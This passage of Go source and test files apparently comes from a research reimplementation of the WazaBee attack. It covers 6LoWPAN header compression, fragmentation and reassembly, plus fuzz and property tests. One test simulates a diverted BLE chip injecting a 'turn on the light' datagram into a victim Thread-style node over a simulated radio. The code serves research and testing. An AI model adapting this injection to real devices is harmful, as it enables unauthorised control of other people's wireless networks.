	// FRAG1 carries 4 header bytes; FRAGN carries 5. Offsets count in
	// 8-byte units, so each fragment's payload must be a multiple of 8
	// (except the last).
	first := (maxFragment - 4) / 8 * 8
	rest := (maxFragment - 5) / 8 * 8
	if first <= 0 || rest <= 0 {
		return nil, fmt.Errorf("sixlowpan: fragment size %d too small for headers", maxFragment)
	}
	if first > len(datagram) {
		// Only reachable for an ambiguous datagram that fits the MTU:
		// a lone FRAG1 is also the final fragment, so its payload is
		// exempt from the multiple-of-8 rule.
		first = len(datagram)
	}

	var out [][]byte
	header := make([]byte, 4)
	binary.BigEndian.PutUint16(header[0:2], frag1Dispatch<<8|size)
	binary.BigEndian.PutUint16(header[2:4], tag)
	out = append(out, append(header, datagram[:first]...))

	for off := first; off < len(datagram); off += rest {
		end := off + rest
		if end > len(datagram) {
			end = len(datagram)
		}
		h := make([]byte, 5)
		binary.BigEndian.PutUint16(h[0:2], fragNDispatch<<8|size)
		binary.BigEndian.PutUint16(h[2:4], tag)
		h[4] = byte(off / 8)
		out = append(out, append(h, datagram[off:end]...))
	}
	return out, nil
}

// fragmentKey identifies an in-flight reassembly.
type fragmentKey struct {
	tag  uint16
	size uint16
}

type reassembly struct {
	data     []byte
	received map[int]int // offset -> length
}

// Reassembler rebuilds datagrams from fragments, tracking multiple
// concurrent datagram tags.
type Reassembler struct {
	inFlight map[fragmentKey]*reassembly
}

// NewReassembler builds an empty reassembler.
func NewReassembler() *Reassembler {
	return &Reassembler{inFlight: make(map[fragmentKey]*reassembly)}
}

// Accept consumes one link-layer payload. It returns the complete
// datagram once every fragment has arrived, or nil while the datagram is
// still partial. Unfragmented payloads return immediately.
func (r *Reassembler) Accept(payload []byte) ([]byte, error) {
	if len(payload) == 0 {
		return nil, fmt.Errorf("sixlowpan: empty payload")
	}
	dispatch := payload[0] & 0xf8
	if dispatch != frag1Dispatch && dispatch != fragNDispatch {
		return append([]byte{}, payload...), nil
	}
	if len(payload) < 5 {
		return nil, fmt.Errorf("sixlowpan: truncated fragment header")
	}
	size := binary.BigEndian.Uint16(payload[0:2]) & 0x07ff
	tag := binary.BigEndian.Uint16(payload[2:4])
	key := fragmentKey{tag: tag, size: size}

	var offset, headerLen int
	if dispatch == frag1Dispatch {
		offset, headerLen = 0, 4
	} else {
		if len(payload) < 6 {
			return nil, fmt.Errorf("sixlowpan: truncated FRAGN header")
		}
		offset, headerLen = int(payload[4])*8, 5
	}
	body := payload[headerLen:]
	if offset+len(body) > int(size) {
		return nil, fmt.Errorf("sixlowpan: fragment overruns datagram (offset %d + %d > %d)", offset, len(body), size)
	}

	ra, ok := r.inFlight[key]
	if !ok {
		ra = &reassembly{data: make([]byte, size), received: make(map[int]int)}
		r.inFlight[key] = ra
	}
	if prev, dup := ra.received[offset]; dup && prev != len(body) {
		return nil, fmt.Errorf("sixlowpan: conflicting fragment at offset %d", offset)
	}
	copy(ra.data[offset:], body)
	ra.received[offset] = len(body)

	// Complete when the received ranges tile [0, size).
	offsets := make([]int, 0, len(ra.received))
	for off := range ra.received {
		offsets = append(offsets, off)
	}
	sort.Ints(offsets)
	next := 0
	for _, off := range offsets {
		if off != next {
			return nil, nil // gap remains
		}
		next = off + ra.received[off]
	}
	if next < int(size) {
		return nil, nil
	}
	delete(r.inFlight, key)
	return ra.data, nil
}

// Pending reports how many datagrams are partially reassembled.
func (r *Reassembler) Pending() int {
	return len(r.inFlight)
}
