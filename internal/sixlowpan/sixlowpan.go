// Package sixlowpan implements the 6LoWPAN adaptation layer (RFC 6282
// IPHC header compression with the UDP next-header compression), the
// other major protocol family the paper names as exposed by WazaBee:
// "each system communicating via a protocol based on the 802.15.4
// standard (Zigbee, 6LoWPan ...) being potentially accessible from a
// component supporting BLE".
//
// The subset implemented covers the common single-hop case of
// Thread-style mesh-local traffic: link-local IPv6 addresses derived
// from MAC addresses (fully elided), 16-bit-compressed or fully inline
// addresses, compressed hop limits, elided traffic class/flow label, and
// UDP with the three port-compression forms.
package sixlowpan

import (
	"encoding/binary"
	"fmt"
)

// IPv6Header is the subset of the IPv6 header 6LoWPAN carries.
type IPv6Header struct {
	// TrafficClass and FlowLabel are elided when zero (TF=11).
	TrafficClass uint8
	FlowLabel    uint32
	// NextHeader is the payload protocol (17 = UDP).
	NextHeader uint8
	// HopLimit is compressed when 1, 64 or 255.
	HopLimit uint8
	Src, Dst [16]byte
}

// UDPHeader is the transport header of a compressed UDP datagram.
type UDPHeader struct {
	SrcPort, DstPort uint16
}

// ProtoUDP is the IPv6 next-header value for UDP.
const ProtoUDP = 17

// iphc dispatch: 011 in the top three bits of the first byte.
const iphcDispatch = 0x60

// udpNHCPrefix is the 11110 prefix of the UDP next-header compression.
const udpNHCPrefix = 0xf0

// LinkLocalFromShort derives the link-local IPv6 address of a node with
// a 16-bit short address on a PAN, per RFC 4944 §6/RFC 6282: the IID is
// formed as PAN:00ff:fe00:short with the universal/local bit cleared.
func LinkLocalFromShort(pan, short uint16) [16]byte {
	var a [16]byte
	a[0], a[1] = 0xfe, 0x80
	binary.BigEndian.PutUint16(a[8:10], pan&0xfdff) // U/L bit zero
	a[10], a[11] = 0x00, 0xff
	a[12], a[13] = 0xfe, 0x00
	binary.BigEndian.PutUint16(a[14:16], short)
	return a
}

// addrMode classifies how an address compresses against the link-local
// context of a node with the given short address.
func addrMode(addr [16]byte, pan, short uint16) (mode uint8, inline []byte) {
	if addr == LinkLocalFromShort(pan, short) {
		return 3, nil // fully elided
	}
	// Link-local with a 16-bit-derivable IID: ::ff:fe00:XXXX.
	var prefix [8]byte
	prefix[0], prefix[1] = 0xfe, 0x80
	if [8]byte(addr[0:8]) == prefix &&
		addr[8] == 0 && addr[9] == 0 && addr[10] == 0 && addr[11] == 0xff &&
		addr[12] == 0xfe && addr[13] == 0 {
		return 2, addr[14:16]
	}
	return 0, addr[:] // 128 bits inline
}

// Compress encodes an IPv6+UDP datagram into its 6LoWPAN form. The PAN
// and short addresses of the MAC frame carrying the datagram provide the
// compression context. Non-UDP payloads keep their next header inline.
func Compress(pan, srcShort, dstShort uint16, ip *IPv6Header, udp *UDPHeader, payload []byte) ([]byte, error) {
	if ip == nil {
		return nil, fmt.Errorf("sixlowpan: nil IPv6 header")
	}
	if udp != nil && ip.NextHeader != ProtoUDP {
		return nil, fmt.Errorf("sixlowpan: UDP header with next header %d", ip.NextHeader)
	}

	b0 := byte(iphcDispatch)
	var b1 byte
	var inline []byte

	// TF: only the fully-elided form is emitted (non-zero class/label
	// fall back to inline TF=00).
	tfElided := ip.TrafficClass == 0 && ip.FlowLabel == 0
	if tfElided {
		b0 |= 0x18 // TF = 11
	} else {
		inline = append(inline, ip.TrafficClass|byte(ip.FlowLabel>>20&0x0f)<<0)
		// ECN+DSCP then 4-bit pad + 20-bit flow label (TF = 00 form,
		// 4 bytes total).
		inline = append(inline,
			byte(ip.FlowLabel>>16)&0x0f,
			byte(ip.FlowLabel>>8),
			byte(ip.FlowLabel))
	}

	// NH: compressed when UDP NHC follows.
	if udp != nil {
		b0 |= 0x04
	} else {
		inline = append(inline, ip.NextHeader)
	}

	// HLIM.
	switch ip.HopLimit {
	case 1:
		b0 |= 0x01
	case 64:
		b0 |= 0x02
	case 255:
		b0 |= 0x03
	default:
		inline = append(inline, ip.HopLimit)
	}

	// Source and destination address modes (stateless, CID=0).
	sam, samInline := addrMode(ip.Src, pan, srcShort)
	dam, damInline := addrMode(ip.Dst, pan, dstShort)
	b1 |= sam << 4
	b1 |= dam
	inline = append(inline, samInline...)
	inline = append(inline, damInline...)

	out := append([]byte{b0, b1}, inline...)

	if udp != nil {
		nhc, err := compressUDP(udp)
		if err != nil {
			return nil, err
		}
		out = append(out, nhc...)
	}
	return append(out, payload...), nil
}

func compressUDP(udp *UDPHeader) ([]byte, error) {
	const wellKnown = 0xf0b0 // ports in the f0bX range compress to a nibble
	switch {
	case udp.SrcPort&0xfff0 == wellKnown && udp.DstPort&0xfff0 == wellKnown:
		return []byte{udpNHCPrefix | 0x03,
			byte(udp.SrcPort&0x0f)<<4 | byte(udp.DstPort&0x0f)}, nil
	case udp.DstPort>>8 == 0xf0:
		// Destination port f0XX: 8-bit compression.
		out := []byte{udpNHCPrefix | 0x01}
		out = binary.BigEndian.AppendUint16(out, udp.SrcPort)
		return append(out, byte(udp.DstPort)), nil
	case udp.SrcPort>>8 == 0xf0:
		out := []byte{udpNHCPrefix | 0x02, byte(udp.SrcPort)}
		return binary.BigEndian.AppendUint16(out, udp.DstPort), nil
	default:
		out := []byte{udpNHCPrefix}
		out = binary.BigEndian.AppendUint16(out, udp.SrcPort)
		return binary.BigEndian.AppendUint16(out, udp.DstPort), nil
	}
}

// Decompress reverses Compress given the same MAC-layer context. udp is
// nil when the datagram carried a non-UDP payload.
func Decompress(pan, srcShort, dstShort uint16, data []byte) (*IPv6Header, *UDPHeader, []byte, error) {
	if len(data) < 2 {
		return nil, nil, nil, fmt.Errorf("sixlowpan: datagram too short")
	}
	b0, b1 := data[0], data[1]
	if b0&0xe0 != iphcDispatch {
		return nil, nil, nil, fmt.Errorf("sixlowpan: not an IPHC datagram (dispatch %#02x)", b0)
	}
	off := 2
	need := func(n int) error {
		if off+n > len(data) {
			return fmt.Errorf("sixlowpan: truncated IPHC fields")
		}
		return nil
	}
	ip := &IPv6Header{}

	switch (b0 >> 3) & 0x3 { // TF
	case 3:
		// Elided: zero class and label.
	case 0:
		if err := need(4); err != nil {
			return nil, nil, nil, err
		}
		ip.TrafficClass = data[off]
		ip.FlowLabel = uint32(data[off+1]&0x0f)<<16 | uint32(data[off+2])<<8 | uint32(data[off+3])
		off += 4
	default:
		return nil, nil, nil, fmt.Errorf("sixlowpan: unsupported TF mode %d", (b0>>3)&0x3)
	}

	nhCompressed := b0&0x04 != 0
	if !nhCompressed {
		if err := need(1); err != nil {
			return nil, nil, nil, err
		}
		ip.NextHeader = data[off]
		off++
	}

	switch b0 & 0x3 { // HLIM
	case 0:
		if err := need(1); err != nil {
			return nil, nil, nil, err
		}
		ip.HopLimit = data[off]
		off++
	case 1:
		ip.HopLimit = 1
	case 2:
		ip.HopLimit = 64
	case 3:
		ip.HopLimit = 255
	}

	readAddr := func(mode uint8, short uint16) ([16]byte, error) {
		switch mode {
		case 3:
			return LinkLocalFromShort(pan, short), nil
		case 2:
			if err := need(2); err != nil {
				return [16]byte{}, err
			}
			var a [16]byte
			a[0], a[1] = 0xfe, 0x80
			a[11], a[12] = 0xff, 0xfe
			a[14], a[15] = data[off], data[off+1]
			off += 2
			return a, nil
		case 0:
			if err := need(16); err != nil {
				return [16]byte{}, err
			}
			var a [16]byte
			copy(a[:], data[off:off+16])
			off += 16
			return a, nil
		default:
			return [16]byte{}, fmt.Errorf("sixlowpan: unsupported address mode %d", mode)
		}
	}
	var err error
	if ip.Src, err = readAddr(b1>>4&0x3, srcShort); err != nil {
		return nil, nil, nil, err
	}
	if ip.Dst, err = readAddr(b1&0x3, dstShort); err != nil {
		return nil, nil, nil, err
	}

	var udp *UDPHeader
	if nhCompressed {
		ip.NextHeader = ProtoUDP
		if err := need(1); err != nil {
			return nil, nil, nil, err
		}
		nhc := data[off]
		off++
		if nhc&0xf8 != udpNHCPrefix {
			return nil, nil, nil, fmt.Errorf("sixlowpan: unsupported NHC %#02x", nhc)
		}
		udp = &UDPHeader{}
		switch nhc & 0x3 {
		case 3:
			if err := need(1); err != nil {
				return nil, nil, nil, err
			}
			udp.SrcPort = 0xf0b0 | uint16(data[off]>>4)
			udp.DstPort = 0xf0b0 | uint16(data[off]&0x0f)
			off++
		case 1:
			if err := need(3); err != nil {
				return nil, nil, nil, err
			}
			udp.SrcPort = binary.BigEndian.Uint16(data[off:])
			udp.DstPort = 0xf000 | uint16(data[off+2])
			off += 3
		case 2:
			if err := need(3); err != nil {
				return nil, nil, nil, err
			}
			udp.SrcPort = 0xf000 | uint16(data[off])
			udp.DstPort = binary.BigEndian.Uint16(data[off+1:])
			off += 3
		case 0:
			if err := need(4); err != nil {
				return nil, nil, nil, err
			}
			udp.SrcPort = binary.BigEndian.Uint16(data[off:])
			udp.DstPort = binary.BigEndian.Uint16(data[off+2:])
			off += 4
		}
	}
	return ip, udp, append([]byte{}, data[off:]...), nil
}
