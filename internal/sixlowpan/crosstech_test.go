package sixlowpan_test

import (
	"bytes"
	"testing"

	"wazabee/internal/bitstream"
	"wazabee/internal/chip"
	"wazabee/internal/ieee802154"
	"wazabee/internal/radio"
	"wazabee/internal/sixlowpan"
)

// TestWazaBeeInjectsSixlowpanDatagram demonstrates the paper's
// generality claim: "our approach is compliant with all 802.15.4
// frames". A diverted BLE chip injects a compressed 6LoWPAN UDP
// datagram into a Thread-style network, and the legitimate node
// decompresses the original datagram.
func TestWazaBeeInjectsSixlowpanDatagram(t *testing.T) {
	const (
		pan      = 0xface
		attacker = 0x0b0b
		victim   = 0x0001
		channel  = 20
		sps      = 8
	)

	// The datagram: a CoAP-style UDP payload to the victim's
	// link-local address.
	ip := &sixlowpan.IPv6Header{
		NextHeader: sixlowpan.ProtoUDP,
		HopLimit:   64,
		Src:        sixlowpan.LinkLocalFromShort(pan, attacker),
		Dst:        sixlowpan.LinkLocalFromShort(pan, victim),
	}
	udp := &sixlowpan.UDPHeader{SrcPort: 5683, DstPort: 5683}
	appPayload := []byte("PUT /light?on=1")
	datagram, err := sixlowpan.Compress(pan, attacker, victim, ip, udp, appPayload)
	if err != nil {
		t.Fatal(err)
	}

	// Wrap in an 802.15.4 MAC frame and transmit with the WazaBee
	// primitive over the simulated air.
	macPayload := datagram
	frame := ieee802154.NewDataFrame(1, pan, victim, attacker, macPayload, false)
	psdu, err := frame.Encode()
	if err != nil {
		t.Fatal(err)
	}
	tx, err := chip.NRF52832().NewWazaBeeTransmitter(sps)
	if err != nil {
		t.Fatal(err)
	}
	sig, err := tx.ModulatePSDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	medium, err := radio.NewMedium(float64(sps)*ieee802154.ChipRate, 6)
	if err != nil {
		t.Fatal(err)
	}
	freq, err := ieee802154.ChannelFrequencyMHz(channel)
	if err != nil {
		t.Fatal(err)
	}
	capture, err := medium.Deliver(sig, freq, freq, radio.Link{SNRdB: 15, LeadSamples: 200, LagSamples: 100})
	if err != nil {
		t.Fatal(err)
	}

	// The legitimate Thread-style node receives and decompresses.
	phy, err := chip.RZUSBStick().NewZigbeePHY(sps)
	if err != nil {
		t.Fatal(err)
	}
	dem, err := phy.Demodulate(capture)
	if err != nil {
		t.Fatal(err)
	}
	if !bitstream.CheckFCS(dem.PPDU.PSDU) {
		t.Fatal("FCS failed")
	}
	rxFrame, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
	if err != nil {
		t.Fatal(err)
	}
	gotIP, gotUDP, gotPayload, err := sixlowpan.Decompress(pan, rxFrame.SrcAddr, rxFrame.DestAddr, rxFrame.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if gotIP.Dst != ip.Dst || gotIP.HopLimit != 64 {
		t.Errorf("IP header = %+v", gotIP)
	}
	if gotUDP == nil || gotUDP.DstPort != 5683 {
		t.Errorf("UDP header = %+v", gotUDP)
	}
	if !bytes.Equal(gotPayload, appPayload) {
		t.Errorf("application payload = %q, want %q", gotPayload, appPayload)
	}
}
