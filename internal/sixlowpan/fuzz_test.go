package sixlowpan

import "testing"

// FuzzDecompress feeds the IPHC decompressor arbitrary datagrams: it
// must never panic, and whatever decompresses must re-compress and
// decompress to the same headers.
func FuzzDecompress(f *testing.F) {
	ip := &IPv6Header{
		NextHeader: ProtoUDP,
		HopLimit:   64,
		Src:        LinkLocalFromShort(0x1234, 0x0063),
		Dst:        LinkLocalFromShort(0x1234, 0x0042),
	}
	seed, _ := Compress(0x1234, 0x0063, 0x0042, ip, &UDPHeader{SrcPort: 0xf0b1, DstPort: 0xf0b2}, []byte("x"))
	f.Add(seed)
	f.Add([]byte{0x60, 0x33})
	f.Fuzz(func(t *testing.T, data []byte) {
		gotIP, gotUDP, payload, err := Decompress(0x1234, 0x0063, 0x0042, data)
		if err != nil {
			return
		}
		out, err := Compress(0x1234, 0x0063, 0x0042, gotIP, gotUDP, payload)
		if err != nil {
			t.Fatalf("decompressed headers do not re-compress: %v", err)
		}
		ip2, udp2, payload2, err := Decompress(0x1234, 0x0063, 0x0042, out)
		if err != nil {
			t.Fatalf("re-compressed datagram does not decompress: %v", err)
		}
		if *ip2 != *gotIP {
			t.Fatalf("IP header diverged: %+v vs %+v", gotIP, ip2)
		}
		if (udp2 == nil) != (gotUDP == nil) || (udp2 != nil && *udp2 != *gotUDP) {
			t.Fatalf("UDP header diverged")
		}
		if string(payload2) != string(payload) {
			t.Fatalf("payload diverged")
		}
	})
}

// FuzzReassembler feeds the fragment reassembler arbitrary payloads.
func FuzzReassembler(f *testing.F) {
	frags, _ := Fragment(make([]byte, 300), 1, 90)
	for _, fr := range frags {
		f.Add(fr)
	}
	f.Fuzz(func(t *testing.T, payload []byte) {
		r := NewReassembler()
		// Feeding the same arbitrary payload repeatedly must never
		// panic nor grow state unboundedly for complete datagrams.
		for i := 0; i < 3; i++ {
			_, _ = r.Accept(payload)
		}
		if r.Pending() > 1 {
			t.Fatalf("single-tag input left %d pending reassemblies", r.Pending())
		}
	})
}
