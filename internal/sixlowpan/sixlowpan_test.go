package sixlowpan

import (
	"bytes"
	"testing"
	"testing/quick"
)

const (
	testPAN = 0x1234
	srcAddr = 0x0063
	dstAddr = 0x0042
)

func TestLinkLocalFromShort(t *testing.T) {
	a := LinkLocalFromShort(testPAN, srcAddr)
	if a[0] != 0xfe || a[1] != 0x80 {
		t.Errorf("prefix = %02x%02x, want fe80", a[0], a[1])
	}
	if a[10] != 0x00 || a[11] != 0xff || a[12] != 0xfe || a[13] != 0x00 {
		t.Errorf("IID filler = % x", a[10:14])
	}
	if a[14] != 0x00 || a[15] != 0x63 {
		t.Errorf("short address bytes = % x", a[14:16])
	}
	// Universal/local bit cleared.
	if a[8]&0x02 != 0 {
		t.Error("U/L bit set")
	}
}

func TestCompressFullyElidedUDP(t *testing.T) {
	ip := &IPv6Header{
		NextHeader: ProtoUDP,
		HopLimit:   64,
		Src:        LinkLocalFromShort(testPAN, srcAddr),
		Dst:        LinkLocalFromShort(testPAN, dstAddr),
	}
	udp := &UDPHeader{SrcPort: 0xf0b1, DstPort: 0xf0b2}
	payload := []byte("thread says hi")

	out, err := Compress(testPAN, srcAddr, dstAddr, ip, udp, payload)
	if err != nil {
		t.Fatal(err)
	}
	// Best case: 2 IPHC bytes + 1 NHC byte + 1 ports byte + payload.
	if want := 4 + len(payload); len(out) != want {
		t.Errorf("compressed length = %d, want %d (maximum compression)", len(out), want)
	}

	gotIP, gotUDP, gotPayload, err := Decompress(testPAN, srcAddr, dstAddr, out)
	if err != nil {
		t.Fatal(err)
	}
	if *gotIP != *ip {
		t.Errorf("IP header = %+v, want %+v", gotIP, ip)
	}
	if gotUDP == nil || *gotUDP != *udp {
		t.Errorf("UDP header = %+v, want %+v", gotUDP, udp)
	}
	if !bytes.Equal(gotPayload, payload) {
		t.Errorf("payload = %q", gotPayload)
	}
}

func TestCompressRoundTripVariants(t *testing.T) {
	var remote [16]byte
	copy(remote[:], []byte{0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1})
	ll16 := [16]byte{0: 0xfe, 1: 0x80, 11: 0xff, 12: 0xfe, 14: 0x99, 15: 0x01}

	tests := []struct {
		name string
		ip   IPv6Header
		udp  *UDPHeader
	}{
		{name: "elided addresses inline hop", ip: IPv6Header{
			NextHeader: ProtoUDP, HopLimit: 17,
			Src: LinkLocalFromShort(testPAN, srcAddr), Dst: LinkLocalFromShort(testPAN, dstAddr),
		}, udp: &UDPHeader{SrcPort: 5683, DstPort: 5683}},
		{name: "global addresses inline", ip: IPv6Header{
			NextHeader: ProtoUDP, HopLimit: 255, Src: remote, Dst: remote,
		}, udp: &UDPHeader{SrcPort: 0xf042, DstPort: 1234}},
		{name: "16-bit compressible", ip: IPv6Header{
			NextHeader: ProtoUDP, HopLimit: 1, Src: ll16, Dst: ll16,
		}, udp: &UDPHeader{SrcPort: 1000, DstPort: 0xf011}},
		{name: "non-udp payload", ip: IPv6Header{
			NextHeader: 58 /* ICMPv6 */, HopLimit: 255,
			Src: LinkLocalFromShort(testPAN, srcAddr), Dst: remote,
		}},
		{name: "traffic class inline", ip: IPv6Header{
			TrafficClass: 0x20, FlowLabel: 0xbeef, NextHeader: ProtoUDP, HopLimit: 64,
			Src: LinkLocalFromShort(testPAN, srcAddr), Dst: LinkLocalFromShort(testPAN, dstAddr),
		}, udp: &UDPHeader{SrcPort: 7, DstPort: 7}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			payload := []byte{1, 2, 3}
			out, err := Compress(testPAN, srcAddr, dstAddr, &tt.ip, tt.udp, payload)
			if err != nil {
				t.Fatal(err)
			}
			gotIP, gotUDP, gotPayload, err := Decompress(testPAN, srcAddr, dstAddr, out)
			if err != nil {
				t.Fatal(err)
			}
			if *gotIP != tt.ip {
				t.Errorf("IP = %+v, want %+v", gotIP, tt.ip)
			}
			if (gotUDP == nil) != (tt.udp == nil) {
				t.Fatalf("UDP presence mismatch")
			}
			if tt.udp != nil && *gotUDP != *tt.udp {
				t.Errorf("UDP = %+v, want %+v", gotUDP, tt.udp)
			}
			if !bytes.Equal(gotPayload, payload) {
				t.Error("payload mismatch")
			}
		})
	}
}

func TestCompressValidation(t *testing.T) {
	if _, err := Compress(testPAN, srcAddr, dstAddr, nil, nil, nil); err == nil {
		t.Error("expected error for nil IP header")
	}
	ip := &IPv6Header{NextHeader: 58}
	if _, err := Compress(testPAN, srcAddr, dstAddr, ip, &UDPHeader{}, nil); err == nil {
		t.Error("expected error for UDP header with non-UDP next header")
	}
}

func TestDecompressErrors(t *testing.T) {
	if _, _, _, err := Decompress(testPAN, srcAddr, dstAddr, []byte{0x60}); err == nil {
		t.Error("expected error for short datagram")
	}
	if _, _, _, err := Decompress(testPAN, srcAddr, dstAddr, []byte{0x00, 0x00}); err == nil {
		t.Error("expected error for wrong dispatch")
	}
	// Truncated inline fields.
	if _, _, _, err := Decompress(testPAN, srcAddr, dstAddr, []byte{0x60, 0x00}); err == nil {
		t.Error("expected error for truncated TF bytes")
	}
	// Valid IPHC but truncated NHC.
	ip := &IPv6Header{NextHeader: ProtoUDP, HopLimit: 64,
		Src: LinkLocalFromShort(testPAN, srcAddr), Dst: LinkLocalFromShort(testPAN, dstAddr)}
	out, err := Compress(testPAN, srcAddr, dstAddr, ip, &UDPHeader{SrcPort: 1, DstPort: 2}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, _, err := Decompress(testPAN, srcAddr, dstAddr, out[:3]); err == nil {
		t.Error("expected error for truncated UDP NHC")
	}
}

func TestCompressionProperty(t *testing.T) {
	f := func(srcPort, dstPort uint16, hop uint8, payload []byte) bool {
		ip := &IPv6Header{
			NextHeader: ProtoUDP,
			HopLimit:   hop,
			Src:        LinkLocalFromShort(testPAN, srcAddr),
			Dst:        LinkLocalFromShort(testPAN, dstAddr),
		}
		udp := &UDPHeader{SrcPort: srcPort, DstPort: dstPort}
		out, err := Compress(testPAN, srcAddr, dstAddr, ip, udp, payload)
		if err != nil {
			return false
		}
		gotIP, gotUDP, gotPayload, err := Decompress(testPAN, srcAddr, dstAddr, out)
		if err != nil {
			return false
		}
		return *gotIP == *ip && gotUDP != nil && *gotUDP == *udp && bytes.Equal(gotPayload, payload)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestCompressionBeatsRawHeaders(t *testing.T) {
	// The whole point of 6LoWPAN: 40-byte IPv6 + 8-byte UDP headers fit
	// an 802.15.4 frame. Maximum compression reduces 48 bytes to 4.
	ip := &IPv6Header{NextHeader: ProtoUDP, HopLimit: 255,
		Src: LinkLocalFromShort(testPAN, srcAddr), Dst: LinkLocalFromShort(testPAN, dstAddr)}
	udp := &UDPHeader{SrcPort: 0xf0b0, DstPort: 0xf0bf}
	out, err := Compress(testPAN, srcAddr, dstAddr, ip, udp, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(out) > 4 {
		t.Errorf("maximally compressed headers take %d bytes, want ≤ 4", len(out))
	}
}
