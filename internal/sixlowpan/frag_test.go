package sixlowpan

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"
)

func testDatagram(n int, seed int64) []byte {
	out := make([]byte, n)
	rand.New(rand.NewSource(seed)).Read(out)
	return out
}

func TestFragmentSmallDatagramPassesThrough(t *testing.T) {
	d := testDatagram(40, 1)
	frags, err := Fragment(d, 7, 100)
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) != 1 || !bytes.Equal(frags[0], d) {
		t.Errorf("small datagram fragmented: %d pieces", len(frags))
	}
}

func TestFragmentValidation(t *testing.T) {
	if _, err := Fragment(nil, 1, 100); err == nil {
		t.Error("expected error for empty datagram")
	}
	if _, err := Fragment(make([]byte, MaxDatagramSize+1), 1, 100); err == nil {
		t.Error("expected error for oversized datagram")
	}
	if _, err := Fragment(make([]byte, 500), 1, 8); err == nil {
		t.Error("expected error for tiny fragment size")
	}
}

func TestFragmentReassembleRoundTrip(t *testing.T) {
	d := testDatagram(1280, 2) // a full IPv6 MTU
	frags, err := Fragment(d, 0x1234, 102)
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) < 12 {
		t.Fatalf("only %d fragments for a 1280-byte datagram", len(frags))
	}
	for _, f := range frags {
		if len(f) > 102 {
			t.Fatalf("fragment length %d exceeds the link MTU", len(f))
		}
	}
	r := NewReassembler()
	for i, f := range frags {
		got, err := r.Accept(f)
		if err != nil {
			t.Fatal(err)
		}
		if i < len(frags)-1 && got != nil {
			t.Fatalf("datagram completed early at fragment %d", i)
		}
		if i == len(frags)-1 {
			if !bytes.Equal(got, d) {
				t.Fatal("reassembled datagram differs")
			}
		}
	}
	if r.Pending() != 0 {
		t.Errorf("pending = %d after completion", r.Pending())
	}
}

func TestReassembleOutOfOrder(t *testing.T) {
	d := testDatagram(400, 3)
	frags, err := Fragment(d, 9, 90)
	if err != nil {
		t.Fatal(err)
	}
	// Deliver in reverse.
	r := NewReassembler()
	var got []byte
	for i := len(frags) - 1; i >= 0; i-- {
		out, err := r.Accept(frags[i])
		if err != nil {
			t.Fatal(err)
		}
		if out != nil {
			got = out
		}
	}
	if !bytes.Equal(got, d) {
		t.Error("out-of-order reassembly failed")
	}
}

func TestReassembleInterleavedTags(t *testing.T) {
	a := testDatagram(300, 4)
	b := testDatagram(300, 5)
	fa, err := Fragment(a, 1, 90)
	if err != nil {
		t.Fatal(err)
	}
	fb, err := Fragment(b, 2, 90)
	if err != nil {
		t.Fatal(err)
	}
	r := NewReassembler()
	var gotA, gotB []byte
	for i := 0; i < len(fa) || i < len(fb); i++ {
		if i < len(fa) {
			if out, err := r.Accept(fa[i]); err != nil {
				t.Fatal(err)
			} else if out != nil {
				gotA = out
			}
		}
		if i < len(fb) {
			if out, err := r.Accept(fb[i]); err != nil {
				t.Fatal(err)
			} else if out != nil {
				gotB = out
			}
		}
	}
	if !bytes.Equal(gotA, a) || !bytes.Equal(gotB, b) {
		t.Error("interleaved reassembly failed")
	}
}

func TestReassemblerRejectsGarbage(t *testing.T) {
	r := NewReassembler()
	if _, err := r.Accept(nil); err == nil {
		t.Error("expected error for empty payload")
	}
	if _, err := r.Accept([]byte{frag1Dispatch, 0x10, 0x00}); err == nil {
		t.Error("expected error for truncated FRAG1")
	}
	if _, err := r.Accept([]byte{fragNDispatch, 0x10, 0, 1, 0}); err == nil {
		t.Error("expected error for truncated FRAGN")
	}
	// Fragment overrunning the declared size.
	bad := []byte{fragNDispatch, 0x10, 0, 1, 0xff}
	bad = append(bad, make([]byte, 64)...)
	if _, err := r.Accept(bad); err == nil {
		t.Error("expected error for overrunning fragment")
	}
}

func TestReassemblerPassesUnfragmented(t *testing.T) {
	r := NewReassembler()
	plain := []byte{0x60, 0x33, 1, 2, 3} // IPHC dispatch
	got, err := r.Accept(plain)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, plain) {
		t.Error("unfragmented payload mangled")
	}
}

func TestFragmentProperty(t *testing.T) {
	f := func(seed int64, sizeSel uint16, mtuSel uint8) bool {
		size := 100 + int(sizeSel%1500)
		mtu := 60 + int(mtuSel%68)
		d := testDatagram(size, seed)
		frags, err := Fragment(d, uint16(seed), mtu)
		if err != nil {
			return false
		}
		r := NewReassembler()
		var got []byte
		for _, frag := range frags {
			out, err := r.Accept(frag)
			if err != nil {
				return false
			}
			if out != nil {
				got = out
			}
		}
		return bytes.Equal(got, d)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// TestFragmentAmbiguousDispatchRoundTrip pins the fix for datagrams
// that fit the MTU but whose first byte matches a fragment dispatch
// (top bits 11000/11100): returned raw they would be misparsed by
// Accept as a fragment header, so Fragment must wrap them in a lone
// FRAG1. Inputs are the two counterexamples testing/quick found.
func TestFragmentAmbiguousDispatchRoundTrip(t *testing.T) {
	cases := []struct {
		size int
		mtu  int
		seed int64
	}{
		{110, 127, -2867996836320836218},
		{108, 108, 6350159066158286303},
		{60, 127, 3},  // small ambiguous-forced payload, see below
		{123, 127, 4}, // len+4 == mtu: wrapped FRAG1 exactly fills the MTU
		{124, 127, 4}, // len+4 > mtu: must fall back to real fragmentation
	}
	for _, tc := range cases {
		d := testDatagram(tc.size, tc.seed)
		d[0] = frag1Dispatch | 0x03 // force the ambiguous first byte
		frags, err := Fragment(d, 0x1234, tc.mtu)
		if err != nil {
			t.Fatalf("size=%d mtu=%d: %v", tc.size, tc.mtu, err)
		}
		for i, f := range frags {
			if len(f) > tc.mtu {
